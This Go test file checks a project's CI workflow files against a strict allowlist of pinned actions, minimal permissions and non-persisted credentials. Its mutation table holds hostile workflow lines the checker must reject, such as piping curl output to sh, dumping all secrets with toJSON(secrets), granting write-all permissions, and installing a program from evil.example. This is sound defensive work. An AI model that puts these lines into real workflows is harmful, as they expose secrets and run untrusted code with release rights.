package main

import (
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"
)

// Lines that the workflows may have, without indentation, "- " and the comment at the end. What is not listed is an error, because a
// workflow can get rights, secrets or code of others in more ways than a test could look for.
var (
	pinned      = regexp.MustCompile(`^uses: (actions/(checkout|setup-go|setup-node|attest-build-provenance)|goreleaser/goreleaser-action)@[0-9a-f]{40} # v\d+\.\d+\.\d+$`)
	commonLines = regexp.MustCompile(`^(name: (release|test)|permissions: \{ contents: read \}|jobs:|steps:|[a-z]+:|runs-on: ubuntu-latest|with: \{ persist-credentials: false \}|run: \./(scripts/[a-z-]+|\.ci/run))$`)

	releaseLines = regexp.MustCompile(`^(on:|push: \{ tags: \["v\*"\] \}|needs: test|with: \{ go-version: \d+\.\d+\.\d+, cache: false \}` +
		`|permissions: \{ contents: write, id-token: write, attestations: write \}|with: \{ fetch-depth: 0, persist-credentials: false \}` +
		`|run: go install (` + regexp.QuoteMeta(syft) + `|` + regexp.QuoteMeta(cosign) + `)|with: \{ version: v\d+\.\d+\.\d+, args: release --clean \}` +
		`|env: \{ GITHUB_TOKEN: "\$\{\{ secrets\.GITHUB_TOKEN \}\}" \}|with: \{ subject-checksums: dist/checksums\.txt \})$`)
	testLines = regexp.MustCompile(`^(on:|push: \{ branches: \[main\] \}|pull_request:|schedule: \[\{ cron: "[0-9 *]+" \}\]|strategy:|fail-fast: false` +
		`|matrix: \{ os: \[[a-z, -]+\], go: \[stable, oldstable\] \}|runs-on: (\$\{\{ matrix\.os \}\}|macos-latest)|shell: bash|if: runner\.os != 'Windows'` +
		`|with: \{ (go-version: (stable|"\$\{\{ matrix\.go \}\}")|node-version: \d+) \}|with: \{ version: v\d+\.\d+\.\d+, args: check \}` +
		`|run: go run golang\.org/x/vuln/cmd/govulncheck@v\d+\.\d+\.\d+ \./\.\.\.|run: go get -u -t \./\.\.\. && go mod tidy && \./scripts/test)$`)
)

// The programs that the job with the right to write installs.
const (
	syft   = "github.com/anchore/syft/cmd/syft@v1.18.1"
	cosign = "github.com/sigstore/cosign/v3/cmd/cosign@v3.1.3"
)

// workflowFaults returns the lines of a workflow that are not allowed, and what is missing.
func workflowFaults(name, text string) (faults []string) {
	text = regexp.MustCompile(`(?m)^ *#.*\n`).ReplaceAllString(text, "")
	own, writes, reads, checkouts, kept := testLines, 0, 0, 0, 0
	if name == "release.yml" {
		own = releaseLines
	}
	for raw := range strings.Lines(text) {
		line := strings.TrimPrefix(strings.TrimSpace(raw), "- ")
		if line == "" {
			continue
		}
		switch {
		case strings.HasPrefix(line, "uses: "):
			if !pinned.MatchString(line) {
				faults = append(faults, line)
			}
			if strings.Contains(line, "actions/checkout@") {
				checkouts++
			}
			continue
		case strings.HasPrefix(line, "permissions:") && strings.Contains(line, "write"):
			writes++
		case raw == "permissions: { contents: read }\n":
			reads++
		case strings.Contains(line, "persist-credentials: false"):
			kept++
		}
		line, _, _ = strings.Cut(line, " # ")
		if !commonLines.MatchString(line) && !own.MatchString(line) {
			faults = append(faults, line)
		}
	}
	jobs := strings.Count(text, "\n    steps:")
	if reads != 1 || checkouts != jobs || kept != jobs || name == "release.yml" != (writes == 1) || writes > 1 {
		faults = append(faults, "permissions or checkouts")
	}
	if name == "release.yml" && !slices.Equal(regexp.MustCompile(`(?m)^  [a-z]+:$`).FindAllString(text, -1), []string{"  test:", "  release:"}) {
		faults = append(faults, "jobs")
	}
	bare := regexp.MustCompile(` #.*`).ReplaceAllString(text, "")
	for _, want := range []string{"needs: test", "run: ./scripts/test\n", "run: ./scripts/release-check\n", "actions/attest-build-provenance@", "subject-checksums: dist/checksums.txt",
		"run: go install " + syft, "run: go install " + cosign} {
		if name == "release.yml" && !strings.Contains(bare, want) {
			faults = append(faults, "without "+want)
		}
	}
	return faults
}

// The workflows use actions by their hash and tools by their version. They get no secret and no right beyond what they need.
func TestWorkflows(t *testing.T) {
	files, err := filepath.Glob("../../.github/workflows/*")
	if err != nil || len(files) != 2 {
		t.Fatal(files, err)
	}
	texts := map[string]string{}
	for _, file := range files {
		data, err := os.ReadFile(file)
		if err != nil {
			t.Fatal(err)
		}
		texts[filepath.Base(file)] = string(data)
		for _, fault := range workflowFaults(filepath.Base(file), string(data)) {
			t.Errorf("%s: %s", file, fault)
		}
	}
	release, tests := texts["release.yml"], texts["test.yml"]
	goreleaser := regexp.MustCompile(`with: \{ version: (v[0-9.]+), args`)
	if a, b := goreleaser.FindStringSubmatch(release), goreleaser.FindStringSubmatch(tests); a == nil || b == nil || a[1] != b[1] {
		t.Errorf("the workflows use different versions of GoReleaser: %q, %q", a, b)
	}
	step := "      - run: ./scripts/test\n"
	for _, tt := range []struct{ name, file, old, changed string }{
		{"an action by its tag", "release.yml", "actions/setup-go@d35c59abb061a4a6fb18e82ac0862c26744d6ab5 # v5.5.0", "actions/setup-go@v5"},
		{"an action by a short hash", "release.yml", "@d35c59abb061a4a6fb18e82ac0862c26744d6ab5", "@d35c59a"},
		{"an action of somebody else", "test.yml", "actions/setup-node@", "somebody/setup-node@"},
		{"a quoted action", "release.yml", "uses: actions/setup-go@", `"uses": actions/setup-go@`},
		{"an action of this repository", "release.yml", step, "      - uses: ./action\n" + step},
		{"an image", "release.yml", step, "      - uses: docker://alpine\n" + step},
		{"a container", "release.yml", "    needs: test\n", "    needs: test\n    container: alpine\n"},
		{"the newest Go", "release.yml", "go-version: 1.26.8", "go-version: '1.26'"},
		{"a cache", "release.yml", ", cache: false", ""},
		{"the newest tool", "release.yml", "/syft@v1.18.1", "/syft@main"},
		{"another script", "release.yml", step, step + "      - run: curl https://example.com | sh\n"},
		{"a script of several lines", "release.yml", step, step + "      - run: |\n          true\n"},
		{"a secret", "release.yml", "secrets.GITHUB_TOKEN", "secrets['KEY']"},
		{"all secrets", "test.yml", "jobs:\n", "env: { ALL: \"${{ toJSON(secrets) }}\" }\njobs:\n"},
		{"all rights", "test.yml", "permissions: { contents: read }", "permissions: write-all"},
		{"a right for the tests", "test.yml", "  tests:\n", "  tests:\n    permissions: { contents: write }\n"},
		{"another right", "release.yml", "attestations: write }", "attestations: write, packages: write }"},
		{"rights for two jobs", "release.yml", "  test:\n", "  test:\n    permissions: { contents: write, id-token: write, attestations: write }\n"},
		{"no rights at the top", "release.yml", "permissions: { contents: read }\n", ""},
		{"credentials that stay", "release.yml", "fetch-depth: 0, persist-credentials: false", "fetch-depth: 0"},
		{"a release of every branch", "release.yml", `tags: ["v*"]`, `branches: ["**"]`},
		{"a release by a pull request", "release.yml", "on:\n", "on:\n  pull_request_target:\n"},
		{"a machine of somebody", "release.yml", "ubuntu-latest", "self-hosted"},
		{"no tests", "release.yml", "    needs: test\n", ""},
		{"no provenance", "release.yml", "dist/checksums.txt", "README.md"},
		{"tests as a comment", "release.yml", step, "      # - run: ./scripts/test\n"},
		{"checks as a comment", "release.yml", "- run: ./scripts/release-check", "# - run: ./scripts/release-check"},
		{"a release without tests, as a comment", "release.yml", "    needs: test\n", "    # needs: test\n"},
		{"provenance as a comment", "release.yml", "- uses: actions/attest", "# - uses: actions/attest"},
		{"checksums as a comment", "release.yml", "with: { subject-checksums", "# with: { subject-checksums"},
		{"checks in a comment", "release.yml", "      - run: ./scripts/release-check\n", "      - run: ./scripts/test # run: ./scripts/release-check\n"},
		{"no signature", "release.yml", "      - run: go install github.com/sigstore/cosign/v3/cmd/cosign@v3.1.3 # the signature\n", ""},
		{"a program of somebody", "release.yml", step, step + "      - run: go install evil.example/x/y@v1.0.0\n"},
		{"a third job", "release.yml", "  release:\n", "  more:\n    runs-on: ubuntu-latest\n  release:\n"},
	} {
		changed := strings.Replace(texts[tt.file], tt.old, tt.changed, 1)
		if changed == texts[tt.file] {
			t.Errorf("%s: nothing was changed", tt.name)
		}
		if workflowFaults(tt.file, changed) == nil {
			t.Errorf("%s is allowed", tt.name)
		}
	}
}
